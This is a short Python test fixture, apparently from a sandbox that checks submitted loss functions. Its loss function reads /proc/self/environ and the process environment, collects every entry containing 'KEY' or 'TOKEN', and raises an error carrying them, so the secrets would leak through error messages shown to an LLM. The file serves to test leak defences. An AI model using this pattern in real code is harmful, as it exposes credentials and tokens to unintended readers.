"""Hostile fixture (static policy off): raises with the whole environment in its message.

The checker words a raising call as a sentence that quotes the exception, which is archived and shown to the
LLM: every variable the sandbox can see, and its raw initial environment block, would leave that way.
"""

import os

NAME = "environ_in_error"


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    with open("/proc/self/environ", "rb") as raw:
        block = raw.read().decode("utf-8", "replace").split("\0")
    wanted = [
        entry for entry in [*block, *(f"{k}={v}" for k, v in os.environ.items())] if "KEY" in entry or "TOKEN" in entry
    ]
    raise ValueError(" ".join(wanted))  # the messages are clipped: the secrets come first
